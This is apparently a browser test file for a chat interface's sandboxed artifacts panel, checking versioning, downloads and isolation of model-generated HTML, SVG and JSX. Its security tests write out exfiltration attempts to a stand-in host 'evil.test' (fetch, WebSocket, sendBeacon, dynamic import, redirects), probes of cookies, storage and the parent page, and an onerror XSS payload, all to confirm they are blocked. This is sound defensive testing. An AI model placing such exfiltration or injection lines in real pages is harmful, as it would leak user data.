import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { expect, onTestFinished, test } from 'vitest';
import { axeFaults } from './testing/axe-faults.ts';
import { useBrowserHarness } from './testing/browser-harness.ts';
import { describeInChromium } from './testing/needs-chromium.ts';

/** Fills a text to the length of an artifact. */
const long = (text: string) => `${text}\n${'<!-- a long document -->\n'.repeat(24)}`.trimEnd();
const longCode = (text: string) => `${text}\n${'// a long component\n'.repeat(30)}`.trimEnd();
const says = (...blocks: readonly (readonly [info: string, text: string])[]) =>
  ['say', ...blocks.flatMap(([info, text]) => [`\`\`\`${info}`, text, '```', ''])].join('\n');

describeInChromium()('artifacts', () => {
  const harness = useBrowserHarness();

  async function opened(message: string) {
    const visitor = await harness.visitor();
    const tab = await visitor.tab();
    await tab.send(message);
    const panel = tab.page.getByRole('complementary', { name: 'Artifacts' });
    await tab.page.getByRole('button', { name: /^\d+ artifacts?$/ }).click();
    await panel.waitFor();
    return { visitor, tab, panel, frame: tab.page.frameLocator('.artifact-panel iframe') };
  }

  test('have versions, their source, and a component that runs', async () => {
    const { visitor, tab, panel, frame } = await opened(
      says(
        ['html', long('<h1>First page</h1>')],
        ['html', long('<h1>Second page</h1>')],
        [
          'jsx counter.jsx',
          longCode(
            "import { useState } from 'react';\nexport default function Counter() {\n  const [count, setCount] = useState(0);\n  return <button onClick={() => setCount(count + 1)}>Count {count}</button>;\n}",
          ),
        ],
      ),
    );
    await frame.getByRole('button', { name: 'Count 0' }).waitFor();
    await panel.getByRole('button', { name: 'Press to use the preview' }).click();
    await frame.getByRole('button', { name: 'Count 0' }).click();
    await frame.getByRole('button', { name: 'Count 1' }).waitFor();
    await panel.getByRole('combobox', { name: 'Artifact' }).selectOption('page.html');
    await frame.getByText('Second page').waitFor();
    expect(await axeFaults(tab.page)).toEqual([]);
    // Documents of a model expect a light page, also if the page around them is dark.
    await tab.page.emulateMedia({ colorScheme: 'dark' });
    const canvas = await tab.page.evaluate<string>(
      "getComputedStyle(document.querySelector('.artifact-panel iframe')).backgroundColor",
    );
    expect(canvas).toBe('rgb(255, 255, 255)');
    await panel.getByRole('button', { name: 'Previous version' }).click();
    await frame.getByText('First page').waitFor();
    await panel.getByText('1 / 2').waitFor();
    await panel.getByRole('button', { name: 'Source', exact: true }).click();
    await panel.getByText('<h1>First page</h1>').waitFor();
    const saving = tab.page.waitForEvent('download');
    await panel.getByRole('button', { name: 'Download' }).click();
    expect((await saving).suggestedFilename()).toBe('page.html');
    await panel.getByRole('button', { name: 'Close the artifacts' }).click();
    // A code block of the answer opens its own version.
    await tab.answer.getByRole('button', { name: 'Open', exact: true }).first().click();
    await frame.getByText('First page').waitFor();
    await tab.page.setViewportSize({ width: 360, height: 740 });
    const width = await tab.page.evaluate<number>('document.documentElement.scrollWidth');
    expect(width).toBe(360);
    expect(await visitor.allFaults()).toEqual([]);
  });

  /**
   * The code of each attack that a component tries. The code returns `refused` if the attack fails.
   */
  const attacks: Readonly<Record<string, string>> = {
    'the page around it':
      "try { return String(parent.document.body.id); } catch { return 'refused'; }",
    'the storage of the page':
      "try { return String(localStorage.length); } catch { return 'refused'; }",
    'a cookie': "try { return document.cookie = 'a=b'; } catch { return 'refused'; }",
    'other code by eval': "try { return eval('1 + 1') + ' by eval'; } catch { return 'refused'; }",
    WebRTC: "return typeof RTCPeerConnection === 'undefined' ? 'refused' : 'there';",
    'a package of the network':
      "try { return String(require('lodash')); } catch { return 'refused'; }",
  };

  test('attack: a component reaches nothing outside of its frame', async () => {
    const tries = Object.entries(attacks).map(
      ([name, body]) => `  <li>{'${name}: ' + (() => { ${body} })()}</li>`,
    );
    const code = `export default function App() { return <ul>\n${tries.join('\n')}\n</ul>; }`;
    const { frame } = await opened(says(['jsx', longCode(code)]));
    await frame.getByRole('listitem').first().waitFor();
    expect(await frame.getByRole('listitem').allInnerTexts()).toEqual(
      Object.keys(attacks).map((name) => `${name}: refused`),
    );
  });

  test('attack: no artifact sends anything', async () => {
    const socket = createSocket('udp4');
    let packets = 0;
    socket.on('message', () => packets++);
    socket.bind(0, '127.0.0.1');
    await once(socket, 'listening');
    onTestFinished(() => void socket.close());
    const { port } = socket.address();
    const send = `const tries = [() => fetch('https://evil.test/'), () => new WebSocket('wss://evil.test/'), () => navigator.sendBeacon('https://evil.test/', 'x'), () => { new Image().src = 'https://evil.test/a.png'; }, () => import('https://evil.test/a.js'), () => new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] }), () => open('https://evil.test/'), () => { top.location = 'https://evil.test/'; }, () => new EventSource('https://evil.test/')]; for (const one of tries) { try { Promise.resolve(one()).catch(() => {}); } catch {} }`;
    const { visitor, tab, panel, frame } = await opened(
      says(
        ['html', long(`<p id="out">page</p><script>${send} out.append(' tried');</script>`)],
        [
          'svg',
          long(
            `<svg xmlns="http://www.w3.org/2000/svg"><script>${send}</script><text y="20">drawn</text><image href="https://evil.test/b.png"/></svg>`,
          ),
        ],
        [
          'jsx',
          longCode(`${send}\nexport default function App() { return <p>component tried</p>; }`),
        ],
      ),
    );
    await frame.getByText('component tried').waitFor();
    const choose = panel.getByRole('combobox', { name: 'Artifact' });
    await choose.selectOption('picture.svg');
    await frame.getByText('drawn').waitFor();
    await choose.selectOption('page.html');
    await frame.getByText('page tried').waitFor();
    expect(packets).toBe(0);
    expect(visitor.faults).toEqual([]);
    expect(new URL(tab.page.url()).origin).toBe(new URL(harness.server.url).origin);
    // The policy of a frame refuses the tries, and the page itself does nothing that is refused.
    expect(await tab.page.evaluate<number>('globalThis.ran ?? 0')).toBe(0);
  });

  test('attack 18.281: a new version runs in place of the version that the user selected', async () => {
    const { tab, panel, frame } = await opened(
      says(['html', long('<h1>First page</h1>')], ['html other.html', long('<h1>Other page</h1>')]),
    );
    await panel.getByRole('combobox', { name: 'Artifact' }).selectOption('page.html');
    await frame.getByText('First page').waitFor();
    await tab.send(says(['html', long('<h1>Second page</h1>')]));
    await panel.getByText('1 / 2').waitFor();
    await frame.getByText('First page').waitFor();
    await panel.getByRole('button', { name: 'Next version' }).click();
    await frame.getByText('Second page').waitFor();
  });

  test('attack: a name and an error of a component stay text', async () => {
    const name = '<img src=x onerror=globalThis.ran=1>';
    const code = `throw new Error('${name}');`;
    const { visitor, frame } = await opened(says([`jsx title="${name}"`, longCode(code)]));
    await frame.getByText(name).waitFor();
    expect(await visitor.allFaults()).toEqual([]);
  });
});
